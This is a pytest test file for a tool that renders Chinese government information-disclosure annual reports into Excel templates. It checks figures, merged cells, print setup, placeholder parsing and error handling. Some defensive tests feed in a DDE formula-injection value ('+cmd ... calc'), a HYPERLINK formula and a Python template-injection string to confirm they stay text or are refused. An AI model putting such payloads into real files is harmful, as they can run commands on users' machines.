"""Tests of the Excel engine (``reportkit.writing.xlsx``) on hand-built contexts.

Templates: the committed ones, the same re-saved by LibreOffice Calc (shared strings, its own
styles), ones edited with openpyxl, and workbooks written part by part (``package``) for what
other programs write: shared strings, rich text, prefixed namespaces, external links, damage.
Figures are found the way a reader finds them: by the row label and the column label of
the official table, never by hard-coded coordinates; LibreOffice must read what openpyxl reads.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import warnings
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

import reportkit

from reportkit.writing.pdf import find_soffice
from reportkit.writing.xlsx import PLACEHOLDER_RE, iter_placeholders, render_xlsx
from reportkit.errors import DataError, TemplateError
from reportkit.templating.check import check_xlsx

from .conftest import YUNXI, soffice_available

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "templates" / "xlsx"
EDITIONS = ("2019", "2021")

APPLICANT_KEYS = ["natural", "business", "research", "nonprofit", "legal", "other"]
APPLICANT_LABELS = {"natural": "自然人", "business": "商业企业", "research": "科研机构",
                    "nonprofit": "社会公益组织", "legal": "法律服务机构", "other": "其他",
                    "total": "总计"}
NOTE = "（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）"

DENIED = [("1.属于国家秘密", "state_secret"), ("2.其他法律行政法规禁止公开", "prohibited"),
          ("3.危及“三安全一稳定”", "security_stability"), ("4.保护第三方合法权益", "third_party"),
          ("5.属于三类内部事务信息", "internal_affairs"), ("6.属于四类过程性信息", "process_info"),
          ("7.属于行政执法案卷", "enforcement_files"), ("8.属于行政查询事项", "inquiry")]
UNAVAILABLE = [("1.本机关不掌握相关政府信息", "not_held"),
               ("2.没有现成信息需要另行制作", "needs_creation"),
               ("3.补正后申请内容仍不明确", "unclear")]
NOT_PROCESSED = [("1.信访举报投诉类申请", "complaint"), ("2.重复申请", "repeated"),
                 ("3.要求提供公开出版物", "publication"), ("4.无正当理由大量反复申请", "excessive"),
                 ("5.要求行政机关确认或重新出具已获取信息", "confirmation")]
OTHER_2021 = [("1.申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请", "no_correction"),
              ("2.申请人逾期未按收费通知要求缴纳费用、行政机关不再处理其政府信息公开申请", "unpaid_fee"),
              ("3.其他", "other")]
OUTCOMES = [("结果维持", "upheld"), ("结果纠正", "corrected"), ("其他结果", "other"),
            ("尚未审结", "pending"), ("总计", "total")]

AMOUNT_2019 = "73802895.90"
AMOUNT_2021 = "1523.4560"


# -- the hand-built context -----------------------------------------------------------------

def _request_rows(edition: str) -> list[tuple[str, str]]:
    """(row label in table 三, dotted path of its applicant row)."""
    rows = [("一、本年新收政府信息公开申请数量", "requests.received"),
            ("二、上年结转政府信息公开申请数量", "requests.carried_over"),
            ("（一）予以公开", "requests.results.granted"),
            ("（二）部分公开（区分处理的，只计这一情形，不计其他情形）", "requests.results.partly_granted")]
    rows += [(label, f"requests.results.denied.{key}") for label, key in DENIED]
    rows += [(label, f"requests.results.unavailable.{key}") for label, key in UNAVAILABLE]
    rows += [(label, f"requests.results.not_processed.{key}") for label, key in NOT_PROCESSED]
    if edition == "2019":
        rows.append(("（六）其他处理", "requests.results.other"))
    else:
        rows += [(label, f"requests.results.other.{key}") for label, key in OTHER_2021]
    rows += [("（七）总计", "requests.results.total"),
             ("四、结转下年度继续办理", "requests.carried_forward")]
    return rows


def _proactive_cells(edition: str) -> list[tuple[str, str, str, str]]:
    """(block caption, row label, column header, dotted path) of every figure in table 二."""
    cap = "第二十条第（{}）项".format
    P = "proactive."
    cells = []
    if edition == "2019":
        cols = [("本年新制作数量", "made"), ("本年新公开数量", "published"), ("对外公开总数量", "published_total")]
        for label, key in [("规章", "regulations"), ("规范性文件", "normative_documents")]:
            cells += [(cap("一"), label, h, f"{P}{key}.{c}") for h, c in cols]
        cols = [("上一年项目数量", "previous"), ("本年增/减", "change"), ("处理决定数量", "decisions")]
        for label, key in [("行政许可", "licensing"), ("其他对外管理服务事项", "other_services")]:
            cells += [(cap("五"), label, h, f"{P}{key}.{c}") for h, c in cols]
        for label, key in [("行政处罚", "penalties"), ("行政强制", "coercion")]:
            cells += [(cap("六"), label, h, f"{P}{key}.{c}") for h, c in cols]
        cells += [(cap("八"), "行政事业性收费", "上一年项目数量", P + "fees.previous"),
                  (cap("八"), "行政事业性收费", "本年增/减", P + "fees.change"),
                  (cap("九"), "政府集中采购", "采购项目数量", P + "procurement.projects"),
                  (cap("九"), "政府集中采购", "采购总金额（万元）", P + "procurement.amount")]
    else:
        cols = [("本年制发件数", "issued"), ("本年废止件数", "repealed"), ("现行有效件数", "in_force")]
        for label, key in [("规章", "regulations"), ("行政规范性文件", "normative_documents")]:
            cells += [(cap("一"), label, h, f"{P}{key}.{c}") for h, c in cols]
        cells += [(cap("五"), "行政许可", "本年处理决定数量", P + "licensing.decisions"),
                  (cap("六"), "行政处罚", "本年处理决定数量", P + "penalties.decisions"),
                  (cap("六"), "行政强制", "本年处理决定数量", P + "coercion.decisions"),
                  (cap("八"), "行政事业性收费", "本年收费金额（单位：万元）", P + "fees.amount")]
    return cells


def _set(tree: dict, path: str, value) -> None:
    *parents, last = path.split(".")
    for key in parents:
        tree = tree.setdefault(key, {})
    tree[last] = value


def make_context(edition: str) -> dict:
    """A complete context for ``edition``: every path the templates use, a distinct figure each."""
    counter = itertools.count(101)
    ctx: dict = {
        "format": edition, "year": 2020 if edition == "2019" else 2022,
        "agency": "新义街道办事处", "agency_id": "11140000MB1234567X", "region": "孝义市",
        "published": "2021-01-20", "rollup": True,
        "doc": {"title": "新义街道办事处2020年政府信息公开工作年度报告",
                "amount_unit": "万元" if edition == "2019" else "",
                "procurement_amount_head": "采购总金额（万元）" if edition == "2019" else "",
                "preface": ["第一段。", "第二段。"], "summary": [], "period": "2020年1月1日至12月31日"},
    }
    for _, _, _, path in _proactive_cells(edition):
        _set(ctx, path, next(counter))
    if edition == "2019":
        _set(ctx, "proactive.licensing.change", -8)
        _set(ctx, "proactive.procurement.amount", AMOUNT_2019)
    else:
        _set(ctx, "proactive.fees.amount", AMOUNT_2021)
    for _, path in _request_rows(edition):
        for key in APPLICANT_KEYS + ["total"]:
            _set(ctx, f"{path}.{key}", next(counter))
    for block in ("reconsideration", "litigation", "litigation_after_reconsideration"):
        for _, key in OUTCOMES:
            _set(ctx, f"appeals.{block}.{key}", next(counter))
    return ctx


def lookup(ctx: dict, path: str):
    for key in path.split("."):
        ctx = ctx[key]
    return ctx


# -- helpers to read a rendered workbook ----------------------------------------------------

def find(ws, text: str, *, rows=None, cols=None) -> list:
    """Cells whose value is exactly ``text``, optionally within row/column ranges."""
    hits = []
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == text and (rows is None or cell.row in rows) \
                    and (cols is None or cell.column in cols):
                hits.append(cell)
    return hits


def find_one(ws, text: str, **kw):
    hits = find(ws, text, **kw)
    assert len(hits) == 1, f"{text!r} found {len(hits)} times in {ws.title}"
    return hits[0]


def span(ws, cell) -> tuple[int, int, int, int]:
    """(min_row, max_row, min_col, max_col) of the merge anchored at ``cell`` (1×1 if none)."""
    for rng in ws.merged_cells.ranges:
        if rng.min_row == cell.row and rng.min_col == cell.column:
            return rng.min_row, rng.max_row, rng.min_col, rng.max_col
    return cell.row, cell.row, cell.column, cell.column


def assert_count(cell, expected: int) -> None:
    assert type(cell.value) is int, (cell.coordinate, cell.value)
    assert cell.value == expected, cell.coordinate


def assert_amount(cell, written: str) -> None:
    assert isinstance(cell.value, (int, float, Decimal)), (cell.coordinate, cell.value)
    assert Decimal(str(cell.value)) == Decimal(written)
    places = len(written.partition(".")[2])
    assert cell.number_format == ("0." + "0" * places if places else "0")


def soffice(*args, cwd: Path) -> None:
    """Run LibreOffice headless with a profile of its own."""
    with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:
        subprocess.run([find_soffice(), "--headless", "--norestore", f"-env:UserInstallation={Path(profile).as_uri()}",
                        *map(str, args)], cwd=cwd, check=True, capture_output=True, timeout=180)


@pytest.fixture(scope="module")
def resaved(tmp_path_factory) -> dict[str, Path]:
    """The default templates opened and saved again by LibreOffice Calc, as a user customising
    them would: shared strings, LibreOffice's own styles, defined names and zip layout."""
    if not soffice_available():
        pytest.skip("LibreOffice is not installed")
    work = tmp_path_factory.mktemp("resaved")
    sources = [shutil.copy(TEMPLATES / f"report-{e}.xlsx", work / f"in-{e}.xlsx") for e in EDITIONS]
    soffice("--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", work / "out", *sources, cwd=work)
    return {e: work / "out" / f"in-{e}.xlsx" for e in EDITIONS}


@pytest.fixture(scope="module", params=[(e, s) for s in ("default", "libreoffice") for e in EDITIONS],
                ids=lambda p: "-".join(p))
def rendered(request, tmp_path_factory):
    edition, source = request.param
    template = TEMPLATES / f"report-{edition}.xlsx" if source == "default" \
        else request.getfixturevalue("resaved")[edition]
    ctx = make_context(edition)
    out = tmp_path_factory.mktemp(f"xlsx{edition}") / "out.xlsx"
    render_xlsx(template, ctx, out)
    return edition, ctx, openpyxl.load_workbook(out), out


# -- layout and figures ---------------------------------------------------------------------

def test_sheet_names(rendered):
    _, _, wb, _ = rendered
    assert wb.sheetnames == ["基本情况", "二、主动公开", "三、依申请公开", "四、复议诉讼"]


def test_no_placeholder_left(rendered):
    _, _, wb, _ = rendered
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert not (isinstance(cell.value, str) and "{{" in cell.value), cell.coordinate


def test_basic_sheet(rendered):
    edition, ctx, wb, _ = rendered
    ws = wb["基本情况"]
    assert find(ws, ctx["doc"]["title"])

    def value(label):
        cell = find_one(ws, label)
        return ws.cell(row=cell.row, column=cell.column + 1)

    assert value("单位名称").value == "新义街道办事处"
    assert value("统一社会信用代码").value == "11140000MB1234567X"
    assert value("所在地区").value == "孝义市"
    assert_count(value("报告年度"), ctx["year"])
    assert value("格式版本").value == edition and value("格式版本").data_type == "s"
    assert value("发布日期").value == "2021-01-20"
    assert value("汇总报告").value == "是"


def test_proactive_figures(rendered):
    edition, ctx, wb, _ = rendered
    ws = wb["二、主动公开"]
    assert find(ws, "二、主动公开政府信息情况")
    captions = sorted((c.row, c.value) for c in ws["A"] if str(c.value).startswith("第二十条"))
    expected = ["一", "五", "六", "八", "九"] if edition == "2019" else ["一", "五", "六", "八"]
    assert [v for _, v in captions] == [f"第二十条第（{n}）项" for n in expected]
    for row, _ in captions:
        first, last, c1, c2 = span(ws, ws.cell(row=row, column=1))
        assert (first, last, c1, c2) == (row, row, 1, 4)  # caption spans the 4 columns
        assert ws.cell(row=row + 1, column=1).value == "信息内容"
    ends = [r for r, _ in captions[1:]] + [ws.max_row + 1]
    blocks = {v: range(r + 1, end) for (r, v), end in zip(captions, ends)}
    for caption, label, header, path in _proactive_cells(edition):
        rows = blocks[caption]
        head = find_one(ws, header, rows=range(rows.start, rows.start + 1))
        lab = find_one(ws, label, rows=rows, cols=range(1, 2))
        cell = ws.cell(row=lab.row, column=head.column)
        written = lookup(ctx, path)
        if path.endswith(".amount"):
            assert_amount(cell, written)
            assert span(ws, cell)[2:] == span(ws, head)[2:]  # merged like its header
        else:
            assert_count(cell, written)
    if edition == "2019":
        cap8 = blocks["第二十条第（八）项"]
        head = find_one(ws, "本年增/减", rows=range(cap8.start, cap8.start + 1))
        assert span(ws, head)[2:] == (3, 4)
        cap9 = blocks["第二十条第（九）项"]
        head = find_one(ws, "采购总金额（万元）", rows=range(cap9.start, cap9.start + 1))
        assert span(ws, head)[2:] == (3, 4)
        licensing = find_one(ws, "行政许可")
        change = find_one(ws, "本年增/减", rows=range(licensing.row - 1, licensing.row))
        assert ws.cell(row=licensing.row, column=change.column).value == -8
    else:
        for header in ("本年处理决定数量", "本年收费金额（单位：万元）"):
            for head in find(ws, header):
                assert span(ws, head)[2:] == (2, 4)


def test_requests_figures(rendered):
    edition, ctx, wb, _ = rendered
    check_requests(edition, ctx, wb["三、依申请公开"])


def check_requests(edition: str, ctx: dict, ws, *, down: int = 0, right: int = 0) -> None:
    """Every figure of table 三 by its row and column labels (the table ``down`` rows and
    ``right`` columns from where the official template has it)."""
    assert find(ws, "三、收到和处理政府信息公开申请情况")
    header_rows = range(1 + down, 6 + down)
    columns = {key: find_one(ws, label, rows=header_rows).column
               for key, label in APPLICANT_LABELS.items()}
    label_cols = range(1 + right, 4 + right)
    for label, path in _request_rows(edition):
        row = find_one(ws, label, cols=label_cols).row
        for key, col in columns.items():
            assert_count(ws.cell(row=row, column=col), lookup(ctx, f"{path}.{key}"))


def test_requests_labels_and_merges(rendered):
    edition, _, wb, _ = rendered
    ws = wb["三、依申请公开"]
    note = find_one(ws, NOTE)
    r0, r1, c0, c1 = span(ws, note)
    assert (r1 - r0 + 1, c1 - c0 + 1) == (3, 3)
    applicant = find_one(ws, "申请人情况")
    r0, r1, c0, c1 = span(ws, applicant)
    assert (r1 - r0 + 1, c1 - c0 + 1) == (1, 7)
    legal_person = find_one(ws, "法人或其他组织")
    assert span(ws, legal_person)[3] - span(ws, legal_person)[2] + 1 == 5
    for label in ("自然人", "总计"):
        r0, r1, _, _ = span(ws, find_one(ws, label))
        assert r1 - r0 + 1 == 2
    results = find_one(ws, "三、本年度办理结果")
    r0, r1, c0, c1 = span(ws, results)
    assert r1 - r0 + 1 == (20 if edition == "2019" else 22) and c0 == c1
    assert results.alignment.text_rotation == 255
    for heading, height in [("（三）不予公开", 8), ("（四）无法提供", 3), ("（五）不予处理", 5)]:
        r0, r1, _, _ = span(ws, find_one(ws, heading))
        assert r1 - r0 + 1 == height, heading
    other = find_one(ws, "（六）其他处理")
    r0, r1, c0, c1 = span(ws, other)
    if edition == "2019":
        assert (r1 - r0 + 1, c1 - c0 + 1) == (1, 2)
    else:
        assert (r1 - r0 + 1, c1 - c0 + 1) == (3, 1)
    for label in ("一、本年新收政府信息公开申请数量", "二、上年结转政府信息公开申请数量",
                  "四、结转下年度继续办理"):
        _, _, c0, c1 = span(ws, find_one(ws, label))
        assert (c0, c1) == (1, 3)
    for label in ("（一）予以公开", "（二）部分公开（区分处理的，只计这一情形，不计其他情形）", "（七）总计"):
        _, _, c0, c1 = span(ws, find_one(ws, label))
        assert c1 - c0 + 1 == 2


def test_appeals(rendered):
    _, ctx, wb, _ = rendered
    check_appeals(ctx, wb["四、复议诉讼"])


def check_appeals(ctx: dict, ws) -> None:
    """Every figure of table 四 by its block and column labels, wherever the table is."""
    assert find(ws, "四、政府信息公开行政复议、行政诉讼情况")
    blocks = {"reconsideration": find_one(ws, "行政复议"),
              "litigation": find_one(ws, "未经复议直接起诉"),
              "litigation_after_reconsideration": find_one(ws, "复议后起诉")}
    _, _, c0, c1 = span(ws, find_one(ws, "行政诉讼"))
    assert c1 - c0 + 1 == 10
    for block, top in blocks.items():
        _, top_last, c0, c1 = span(ws, top)
        assert c1 - c0 + 1 == 5
        labels = {key: find_one(ws, label, rows=range(top_last + 1, top_last + 3),
                                cols=range(c0, c1 + 1)) for label, key in OUTCOMES}
        data_row = max(span(ws, c)[1] for c in labels.values()) + 1
        for key, head in labels.items():
            assert_count(ws.cell(row=data_row, column=head.column),
                         ctx["appeals"][block][key])
    for label, _ in OUTCOMES:  # 行政复议's sub-columns span the two lower header rows
        r0, r1, _, _ = span(ws, find(ws, label)[0])
        assert r1 - r0 + 1 == 2


def test_print_setup(rendered):
    _, _, wb, _ = rendered
    for ws in wb.worksheets:
        assert str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4)
        assert ws.print_options.gridLines in (False, None)
        assert ws.sheet_properties.pageSetUpPr.fitToPage
    ws = wb["三、依申请公开"]
    assert ws.page_setup.orientation == "landscape"
    # 三 on one page: a page break would cut its stacked labels (issue 21.4); absent = 1 (OOXML default)
    assert (ws.page_setup.fitToWidth or 1) == 1 and (ws.page_setup.fitToHeight or 1) == 1
    assert wb["四、复议诉讼"].page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$2:$4"
    assert wb["四、复议诉讼"].print_title_rows == "$2:$4"
    note = find_one(ws, NOTE)
    assert note.border.left.style == "thin" and note.alignment.wrap_text


# -- placeholders ---------------------------------------------------------------------------

@pytest.mark.parametrize("edition", EDITIONS)
def test_iter_placeholders_finds_every_placeholder(edition):
    template = TEMPLATES / f"report-{edition}.xlsx"
    found = list(iter_placeholders(template))
    paths = {p for _, _, p in found}
    expected = {path for _, _, _, path in _proactive_cells(edition)}
    expected |= {f"{path}.{k}" for _, path in _request_rows(edition) for k in APPLICANT_KEYS + ["total"]}
    expected |= {f"appeals.{b}.{k}" for b in ("reconsideration", "litigation",
                                              "litigation_after_reconsideration")
                 for _, k in OUTCOMES}
    expected |= {"doc.title", "agency", "agency_id", "region", "year", "format", "published", "rollup"}
    if edition == "2019":
        expected.add("doc.procurement_amount_head")
    assert paths == expected
    # every cell holding "{{" is reported, with its sheet and coordinate
    wb = openpyxl.load_workbook(template)
    cells = {(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
             for c in row if isinstance(c.value, str) and "{{" in c.value}
    assert {(s, c) for s, c, _ in found} == cells
    assert len(found) == len(cells)
    ctx = make_context(edition)
    for path in paths:
        lookup(ctx, path)  # the hand-built context covers the template


def test_placeholder_re():
    assert PLACEHOLDER_RE.fullmatch("{{agency}}").group(1) == "agency"
    assert PLACEHOLDER_RE.fullmatch("{{   requests.results.denied.third_party.legal  }}").group(1) \
        == "requests.results.denied.third_party.legal"
    for bad in ("{{ a + b }}", "{{ a|upper }}", "{{ a.0 }}", "{{ a[0] }}", "{{ }}", "{{ a. }}"):
        assert PLACEHOLDER_RE.fullmatch(bad) is None, bad


# -- custom templates -----------------------------------------------------------------------

def make_template(tmp_path: Path, cells: dict[str, object], name: str = "t.xlsx") -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "表"
    for coord, value in cells.items():
        ws[coord] = value
    path = tmp_path / name
    wb.save(path)
    return path


def render_cells(tmp_path: Path, cells: dict[str, object], ctx: dict):
    out = tmp_path / "out.xlsx"
    render_xlsx(make_template(tmp_path, cells), ctx, out)
    return openpyxl.load_workbook(out)["表"], out


def test_formula_text_stays_text(tmp_path):
    ctx = make_context("2021")
    ctx["agency"] = '=HYPERLINK("http://x","y")'
    out = tmp_path / "out.xlsx"
    render_xlsx(TEMPLATES / "report-2021.xlsx", ctx, out)
    ws = openpyxl.load_workbook(out)["基本情况"]
    cell = ws.cell(row=find_one(ws, "单位名称").row, column=2)
    assert cell.value == '=HYPERLINK("http://x","y")'
    assert cell.data_type == "s"
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-x", "@SUM(A1:A2)", "=", "\t=1"])
def test_leading_formula_characters(tmp_path, text):
    ws, _ = render_cells(tmp_path, {"A1": "{{ agency }}", "A2": "单位：{{ agency }}",
                                    "A3": "{{agency}}{{ region }}"},
                         {"agency": text, "region": ""})
    assert ws["A1"].value == text and ws["A1"].data_type == "s"
    assert ws["A2"].value == "单位：" + text and ws["A2"].data_type == "s"
    assert ws["A3"].value == text and ws["A3"].data_type == "s"


def test_control_characters_are_stripped(tmp_path):
    ctx = {"agency": "新义\x00街道\x1f办事处\x0b\x0c\x08", "region": "孝\t义\n市\r",
           "doc": {"preface": ["第一\x07段", "第二段"]}}
    ws, _ = render_cells(tmp_path, {"A1": "{{ agency }}", "A2": "地区：{{ region }}",
                                    "A3": "{{ doc.preface }}", "A4": "{{ agency }}！"}, ctx)
    assert ws["A1"].value == "新义街道办事处"
    assert ws["A2"].value == "地区：孝\t义\n市\r"
    assert ws["A3"].value == "第一段\n第二段"
    assert ws["A4"].value == "新义街道办事处！"


def test_typed_values(tmp_path):
    ctx = {"n": 7, "neg": -8, "yes": True, "no": False, "none": None, "empty": "",
           "f": {"amount": "0", "notice_amount": "12.50", "collected_amount": "1523.4560",
                 "other": "12.50", "bad_amount": "x"},
           "p": {"amount": "约12万"}, "paras": ["甲", "乙", "丙"], "d": Decimal("3.10")}
    ws, _ = render_cells(tmp_path, {
        "A1": "{{ n }}", "A2": "{{ neg }}", "A3": "{{ yes }}", "A4": "{{ no }}", "A5": "{{ none }}",
        "A6": "{{ empty }}", "A7": "{{ f.amount }}", "A8": "{{ f.notice_amount }}",
        "A9": " {{ f.collected_amount }} ", "A10": "{{ f.other }}", "A11": "{{ p.amount }}",
        "A12": "{{ paras }}", "A13": "{{ d }}",
        "B1": "共{{ n }}件", "B2": "增减{{ neg }}", "B3": "汇总：{{ yes }}", "B4": "[{{ none }}]",
        "B5": "金额{{ f.notice_amount }}元", "B6": "{{ paras }}。",
    }, ctx)
    assert_count(ws["A1"], 7)
    assert_count(ws["A2"], -8)
    assert ws["A3"].value == "是" and ws["A4"].value == "否"
    assert ws["A5"].value is None and ws["A6"].value is None
    assert_amount(ws["A7"], "0")
    assert_amount(ws["A8"], "12.50")
    assert_amount(ws["A9"], "1523.4560")
    assert ws["A10"].value == "12.50" and ws["A10"].data_type == "s"  # not an amount key
    assert ws["A11"].value == "约12万" and ws["A11"].data_type == "s"
    assert ws["A12"].value == "甲\n乙\n丙"
    assert_amount(ws["A13"], "3.10")
    assert ws["B1"].value == "共7件"
    assert ws["B2"].value == "增减-8"
    assert ws["B3"].value == "汇总：是"
    assert ws["B4"].value == "[]"
    assert ws["B5"].value == "金额12.50元"
    assert ws["B6"].value == "甲\n乙\n丙。"


def test_values_are_not_rescanned(tmp_path):
    ws, _ = render_cells(tmp_path, {"A1": "{{ agency }}", "A2": "x{{ agency }}"},
                         {"agency": "{{ secret }}", "secret": "泄露"})
    assert ws["A1"].value == "{{ secret }}"
    assert ws["A2"].value == "x{{ secret }}"


def test_unknown_placeholder_in_modified_template(tmp_path):
    wb = openpyxl.load_workbook(TEMPLATES / "report-2021.xlsx")
    wb["四、复议诉讼"]["B7"] = "备注：{{ appeals.reconsideration.nosuch }}"
    template = tmp_path / "custom.xlsx"
    wb.save(template)
    out = tmp_path / "out.xlsx"
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, make_context("2021"), out)
    err = info.value
    assert err.field == "appeals.reconsideration.nosuch"
    assert err.template == str(template)
    assert "模板字段不存在：appeals.reconsideration.nosuch" in err.message
    assert "四、复议诉讼" in err.message and "B7" in err.message
    assert str(template) in str(err)


@pytest.mark.parametrize("path", ["nosuch", "agency.name", "requests.received.nosuch",
                                  "requests.results.other.no_correction"])
def test_unknown_paths(tmp_path, path):
    ctx = make_context("2019")  # 2019: results.other is an applicant row without sub-rows
    with pytest.raises(TemplateError) as info:
        render_cells(tmp_path, {"C3": "{{ %s }}" % path}, ctx)
    assert info.value.field == path and "C3" in info.value.message


@pytest.mark.parametrize("text", ["{{ a + b }}", "{{ agency|upper }}", "{% for x in y %}",
                                  "{{ agency", "{{ doc['title'] }}", "{{ __import__('os') }}"])
def test_malformed_placeholders(tmp_path, text):
    template = make_template(tmp_path, {"D4": text})
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, make_context("2019"), tmp_path / "out.xlsx")
    assert "D4" in info.value.message
    with pytest.raises(TemplateError):
        list(iter_placeholders(template))


def test_placeholder_in_formula_is_refused(tmp_path):
    template = make_template(tmp_path, {"A1": '=CONCAT("{{ agency }}")'})
    with pytest.raises(TemplateError, match="公式"):
        render_xlsx(template, {"agency": "x"}, tmp_path / "out.xlsx")


def test_other_cells_are_kept(tmp_path):
    ws, _ = render_cells(tmp_path, {"A1": "{{ n }}", "A3": 5, "A4": "普通文字", "A5": 2.5, "A6": True},
                         {"n": 3})
    assert ws["A3"].value == 5 and ws["A4"].value == "普通文字" and ws["A5"].value == 2.5
    assert ws["A6"].value is True


@pytest.mark.parametrize("content", [b"not a zip", b"", b"PK\x03\x04garbage"])
def test_invalid_template_file(tmp_path, content):
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(content)
    with pytest.raises(TemplateError) as info:
        render_xlsx(bad, {}, tmp_path / "out.xlsx")
    assert info.value.template == str(bad) and str(bad) in str(info.value)
    with pytest.raises(TemplateError):
        list(iter_placeholders(bad))


def test_zip_that_is_not_a_workbook(tmp_path):
    bad = tmp_path / "notbook.xlsx"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr("hello.txt", "hi")
    with pytest.raises(TemplateError) as info:
        render_xlsx(bad, {}, tmp_path / "out.xlsx")
    assert info.value.template == str(bad)


def test_missing_template(tmp_path):
    with pytest.raises(TemplateError) as info:
        render_xlsx(tmp_path / "nope.xlsx", {}, tmp_path / "out.xlsx")
    assert "nope.xlsx" in str(info.value)


def test_render_to_file_object_and_template_reuse(tmp_path):
    template = TEMPLATES / "report-2019.xlsx"
    first, second = io.BytesIO(), io.BytesIO()
    ctx = make_context("2019")
    render_xlsx(template, ctx, first)
    ctx["agency"] = "另一单位"
    render_xlsx(template, ctx, second)  # the template (cached or not) is not altered
    ws1 = openpyxl.load_workbook(io.BytesIO(first.getvalue()))["基本情况"]
    ws2 = openpyxl.load_workbook(io.BytesIO(second.getvalue()))["基本情况"]
    assert find(ws1, "新义街道办事处") and find(ws2, "另一单位")
    assert list(iter_placeholders(template))  # still a template


def test_template_edited_on_disk_is_reread(tmp_path):
    template = make_template(tmp_path, {"A1": "{{ agency }}"})
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"agency": "甲", "region": "乙"}, out)
    assert openpyxl.load_workbook(out).active["A1"].value == "甲"
    wb = openpyxl.load_workbook(template)
    wb.active["A1"] = "{{ region }}"
    wb.active["A2"] = "padding so the size changes"
    wb.save(template)
    render_xlsx(template, {"agency": "甲", "region": "乙"}, out)
    assert openpyxl.load_workbook(out).active["A1"].value == "乙"


# -- workbooks written by hand, part by part ------------------------------------------------

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
STYLES = (f'<styleSheet xmlns="{MAIN_NS}"><numFmts count="1"><numFmt numFmtId="165" formatCode="0.0"/></numFmts>'
          '<fonts count="2"><font><sz val="11"/></font><font><b/><sz val="11"/></font></fonts>'
          '<fills count="2"><fill><patternFill patternType="none"/></fill>'
          '<fill><patternFill patternType="gray125"/></fill></fills>'
          '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
          '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
          '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
          '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"><alignment wrapText="1"/></xf></cellXfs>'
          '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
          '<dxfs count="1"><dxf><numFmt numFmtId="170" formatCode="0.000"/></dxf></dxfs></styleSheet>')


def rels_xml(rels: dict[str, tuple[str, str]], external: tuple[str, ...] = ()) -> str:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{kind if "/" in kind else REL_NS + "/" + kind}" Target="{target}"'
        + (' TargetMode="External"' if rid in external else "") + "/>"
        for rid, (kind, target) in rels.items())
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'


def sheet_xml(rows: str, tail: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}" '
            f'xmlns:r="{REL_NS}"><sheetData>{rows}</sheetData>{tail}</worksheet>')


def package(path: Path, sheet: str, *, strings: list[str] | None = None, styles: str = STYLES, book: str = "",
            book_rels: dict | None = None, parts: dict[str, str | bytes] | None = None,
            workbook_type: str = XLSX_TYPE) -> Path:
    """A one-sheet workbook (sheet 表) written part by part, as other programs write them.

    ``strings``: the shared strings, each the inner XML of an ``<si>``; ``book``: XML appended
    to the workbook after ``<sheets>``; ``parts``: more members (name → content)."""
    rels = {"rId1": ("worksheet", "worksheets/sheet1.xml"), "rId2": ("styles", "styles.xml")}
    files: dict[str, str | bytes] = {
        "_rels/.rels": rels_xml({"rId1": ("officeDocument", "xl/workbook.xml")}),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
                           f'<sheet name="表" sheetId="1" r:id="rId1"/></sheets>{book}</workbook>',
        "xl/worksheets/sheet1.xml": sheet, "xl/styles.xml": styles,
    }
    if strings is not None:
        rels["rId3"] = ("sharedStrings", "sharedStrings.xml")
        files["xl/sharedStrings.xml"] = (f'<sst xmlns="{MAIN_NS}" count="{len(strings)}" uniqueCount="{len(strings)}">'
                                         + "".join(f"<si>{si}</si>" for si in strings) + "</sst>")
    files["xl/_rels/workbook.xml.rels"] = rels_xml({**rels, **(book_rels or {})})
    files.update(parts or {})
    overrides = {"/xl/workbook.xml": workbook_type,
                 "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
                 "/xl/styles.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
                 "/xl/sharedStrings.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"}
    types = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             + "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides.items()
                       if n[1:] in files) + "</Types>")
